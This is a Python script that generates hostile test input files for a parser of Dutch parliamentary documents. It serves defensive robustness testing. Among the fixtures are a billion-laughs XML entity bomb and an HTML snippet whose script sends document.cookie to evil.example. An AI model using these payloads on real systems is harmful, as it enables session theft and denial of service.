"""Generate the corpus of hostile source files (issue 7) into a folder.

    python tests/bad_inputs/make_bad_inputs.py OUT_DIR [--big]

Every file is derived from the seed Kamerstuk (``data/sources/kst-28676-339.txt``) or written from
scratch here, so nothing large or binary is committed: the 100 MB file is made at test time (sparse,
so it costs no disk) and only with ``--big`` / ``big=True`` does it get real text in it.

``EXPECTED`` says what the system must do with each file: ``("error", words)`` -- the source is refused
with a :class:`~kamerkg.errors.SourceError` whose message contains ``words``; ``("ok", warning)`` --
it builds, with a warning containing ``warning`` (or none when ``warning`` is None).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT / "data" / "sources" / "kst-28676-339.txt"
MB = 1024 * 1024

EXPECTED: dict[str, tuple[str, str | None]] = {
    "empty.txt": ("error", "empty file"),
    "whitespace.txt": ("error", "no text"),
    "bom-only.txt": ("error", "no text"),
    "binary.txt": ("error", "NUL bytes"),
    "nul-late.txt": ("error", "NUL bytes"),
    "controls.txt": ("error", "control characters"),
    "latin1.txt": ("error", "not UTF-8"),
    "mixed-encodings.txt": ("error", "not UTF-8"),
    "utf8-surrogate.txt": ("error", "not UTF-8"),
    "utf8-overlong.txt": ("error", "not UTF-8"),
    "utf16-nobom.txt": ("error", "NUL bytes"),
    "utf16-lone-surrogate.txt": ("error", "broken UTF-16"),
    "not-parliamentary.txt": ("error", "not a parliamentary document"),
    "folder.txt": ("error", "is a folder"),
    "huge-100mb.txt": ("error", "too large"),
    "hostile.html": ("error", ""),  # the official-edition parser refuses it (any SourceError)
    "billion-laughs.xml": ("error", ""),
    "utf16-bom.txt": ("ok", None),
    "few-controls.txt": ("ok", None),
    "rtl-override.txt": ("ok", "bidirectional"),
    "html-script.txt": ("ok", None),
    "truncated-mid-word.txt": ("ok", "partial copy"),
    "dates-31-februari.txt": ("ok", None),
    "absurd-citations.txt": ("ok", None),
    "repeated.txt": ("ok", None),
    "long-line.txt": ("ok", "meetings read from the first"),  # more than MAX_DATES dates
    "nested-parens.txt": ("ok", None),
}

# what a hostile literal looks like: Turtle long-string quotes, IRI and tag brackets, backslashes,
# newlines, a right-to-left override and isolate, a zero-width joiner
HOSTILE = (
    'A """triple""" <quote> \\ back\\slash\\n <script>alert("x")</script> &amp; '
    "\u202eevil\u202c \u2067x\u2069 z\u200dw"
)


def seed_text() -> str:
    return SEED.read_text(encoding="utf-8")


def renumber(text: str, nr: int) -> str:
    """The seed under another number (kst-28676-<nr>): a document id of its own, no curated statements."""
    return text.replace("kst-28676-339", f"kst-28676-{nr}").replace("28 676, nr. 339 ", f"28 676, nr. {nr} ")


def with_paragraph(text: str, para: str) -> str:
    """The seed with ``para`` inserted as a paragraph after its first one."""
    i = text.index("\n\n") + 2
    return text[:i] + para + "\n\n" + text[i:]


def files(big: bool = False) -> dict[str, bytes | None]:
    """File name -> content (None for the special entries the caller makes: a folder, a sparse file)."""
    seed = seed_text()
    sb = seed.encode("utf-8")
    out: dict[str, bytes | None] = {}
    out["empty.txt"] = b""
    out["whitespace.txt"] = b" \n\t\r\n   \n" * 50
    out["bom-only.txt"] = b"\xef\xbb\xbf\n\n"
    out["binary.txt"] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
    out["nul-late.txt"] = sb + b"\n" * 3 + b"Tweede Kamer" + b"\x00" * 4 + b"\n"
    out["controls.txt"] = (seed[:2000] + "".join(chr(c) for c in range(1, 9)) * 60 + seed[2000:]).encode()
    out["latin1.txt"] = seed.replace("’", "'").encode("latin-1", errors="replace")
    out["mixed-encodings.txt"] = sb + "\n\nBijlage: overzicht van de financiële gevolgen.\n".encode("cp1252")
    out["utf8-surrogate.txt"] = sb[:500] + b"\xed\xa0\x80" + sb[500:]  # a lone surrogate as CESU-8
    out["utf8-overlong.txt"] = sb[:500] + b"\xc0\xaf" + sb[500:]  # an overlong "/"
    out["utf16-nobom.txt"] = seed.encode("utf-16-le")
    out["utf16-bom.txt"] = renumber(seed, 9001).encode("utf-16")  # with its BOM: fine
    # a high surrogate with no low one after it, in otherwise valid UTF-16
    le = seed.encode("utf-16-le")
    out["utf16-lone-surrogate.txt"] = (
        b"\xff\xfe" + le[:1000] + b"\x00\xd8" + "a".encode("utf-16-le") + le[1000:]
    )
    out["not-parliamentary.txt"] = (
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n" * 40
    ).encode()
    out["folder.txt"] = None
    out["huge-100mb.txt"] = None
    out["hostile.html"] = (
        "<html><head><script>alert(1)</script></head><body onload='x()'>" + "<div>" * 5000 + "</body>"
    ).encode()
    out["billion-laughs.xml"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
            for i in range(1, 10)
        )
        + "]>\n<officiele-publicatie><kamerstuk><tekst>&lol9;</tekst></kamerstuk></officiele-publicatie>\n"
    ).encode()
    out["few-controls.txt"] = with_paragraph(
        renumber(seed, 9002), "Een regel met een escape \x1b[31m en een tab\x0bte veel."
    ).encode()
    out["rtl-override.txt"] = with_paragraph(renumber(seed, 9003), f"Zie ook {HOSTILE}.").encode()
    out["html-script.txt"] = with_paragraph(
        renumber(seed, 9004),
        '<script>document.location="https://evil.example/?c="+document.cookie</script> <b onmouseover=x>'
        ' """ \\" \\u0022 > ]]> --> {{ "@context": null }}',
    ).encode()
    cut = seed.index("gemeen-") + 4  # inside a word
    out["truncated-mid-word.txt"] = seed[:cut].encode()
    out["dates-31-februari.txt"] = (
        renumber(seed, 9005)
        .replace("Den Haag, 9 april 2020", "Den Haag, 31 februari 2020")
        .replace("op 15 april 2020", "op 31 februari 2020")
        .replace("2 april jl.", "30 februari jl.")
        + "\nDe bijeenkomst van 0 januari 0000 en de vergadering op 29 februari 2021 en 2020-02-30.\n"
    ).encode()
    out["absurd-citations.txt"] = with_paragraph(
        renumber(seed, 9006),
        "Zie Kamerstuk 28 676, nr. 99999999999999999999; Kamerstuk 99999999999, nr. 1; (28 676, nr. 0); "
        "(00 000, nr. 00000); Aanhangsel Handelingen II 9999/99, nr. 123456789012345678901234567890; "
        "Handelingen II 0000/00, nr. 99999; Kamerstukken 28 676 en " + "28 676 en " * 200 + "28 676, nr. 1.",
    ).encode()
    body = seed[seed.index("Hierbij") :]
    out["repeated.txt"] = (renumber(seed, 9007) + ("\n\n" + body) * 40).encode()
    out["long-line.txt"] = (
        renumber(seed, 9008) + "\n" + "bijeenkomst op 1 mei 2020 Kamerstuk 28 676, nr. 1 " * 5100 + "\n"
    ).encode()
    out["nested-parens.txt"] = (
        renumber(seed, 9009) + "\n" + "(" * 50000 + "28 676, nr. 1" + ")" * 50000 + "\n"
    ).encode()
    return out


def generate(dest: Path, big: bool = False) -> dict[str, Path]:
    """Write the corpus into ``dest``; return name -> path."""
    dest.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for name, data in files(big).items():
        p = dest / name
        paths[name] = p
        if name == "folder.txt":
            p.mkdir(exist_ok=True)
            (p / "inside.txt").write_text("Tweede Kamer\n", encoding="utf-8")
        elif name == "huge-100mb.txt":
            with open(p, "wb") as f:
                if big:  # real text, 100 MB of it
                    chunk = seed_text().encode()
                    while f.tell() < 100 * MB:
                        f.write(chunk)
                else:
                    f.write(seed_text().encode())
                    f.truncate(100 * MB)  # sparse: no disk used, the size is what counts
        else:
            assert data is not None
            p.write_bytes(data)
    return paths


if __name__ == "__main__":  # pragma: no cover
    if len(sys.argv) < 2:
        print(__doc__)
        sys.exit(2)
    made = generate(Path(sys.argv[1]), big="--big" in sys.argv)
    for n, p in made.items():
        size = p.stat().st_size if p.is_file() else 0
        print(f"{EXPECTED[n][0]:5s} {size:>11d}  {os.fspath(p)}")
